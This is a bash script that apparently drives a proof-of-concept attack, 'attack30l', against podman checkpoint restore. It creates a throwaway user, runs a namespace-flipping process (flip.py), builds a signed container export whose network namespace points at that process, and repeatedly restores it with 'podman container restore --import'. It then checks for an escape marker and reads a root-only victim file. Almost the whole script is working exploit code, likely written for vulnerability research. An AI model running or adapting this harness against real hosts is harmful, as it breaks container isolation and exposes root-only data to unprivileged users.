#!/bin/bash
# attack30l: a SIGNED export (this node's key) of the attacker's container (payload.py), its spec.dump's network
# namespace = /proc/PID/ns/net of a LOCAL NON-ROOT USER's flip.py (createNetNS false); the operator restores it
# with podman's own --import under the DEFAULT policy (dcontainers.conf -> rt-default.sh -> dtrust). Makes user
# attack30l (removed by CLEAN=1 at the end). TRIES restores; FLIP_MS the flip period.
set -u; D=/var/tmp/attack30l; H=$(dirname "$(readlink -f "$0")"); P=/usr/lib/gpuckpt/venv/bin/python3; cd $D
export CONTAINERS_CONF=$D/${DCONF:-dcontainers.conf}
id attack30l >/dev/null 2>&1 || useradd -M -d /nonexistent -s /usr/sbin/nologin attack30l
U=/tmp/attack30l-u; mkdir -p $U; cp $H/flip.py $U/; chown -R attack30l: $U; chmod 700 $U
pkill -u attack30l -f flip.py 2>/dev/null; sleep 0.3
runuser -u attack30l -- env FLIP_MS=${FLIP_MS:-1} python3 $U/flip.py $U/pid > $U/flip.log 2>&1 &
sleep 1; PID=$(cat $U/pid); echo "user attack30l's flip.py pid $PID: $(head -1 $U/flip.log); host netns $(readlink /proc/self/ns/net)"
$P $H/nsjoin.py psrc.tar.zst flip.tar.zst network=/proc/$PID/ns/net
for i in $(seq 1 ${TRIES:-6}); do
  podman rm -f -t 0 attack30l-psrc >/dev/null 2>&1
  echo "=== try $i $(date -u +%T.%N | cut -c1-12)"
  timeout 200 podman container restore --import flip.tar.zst 2>&1 | tail -1 | cut -c1-400; echo "restore rc=${PIPESTATUS[0]}"
  if podman container exists attack30l-psrc && [ "$(podman inspect -f '{{.State.Running}}' attack30l-psrc)" = true ]; then
    sleep 1.5
    podman exec attack30l-psrc sh -c 'echo container netns $(readlink /proc/1/ns/net); cat /tmp/escape 2>/dev/null || cat /tmp/last-error'
    podman rm -f -t 0 attack30l-psrc >/dev/null 2>&1
    [ -n "${ALL:-}" ] || break
  fi
done
echo "--- flip.py log:"; cat $U/flip.log; echo "--- victim file now:"; cat /var/tmp/attack30l-victim/root-only.txt
kill $PID 2>/dev/null
if [ -n "${CLEAN:-}" ]; then sleep 0.5; userdel attack30l; rm -rf $U; fi
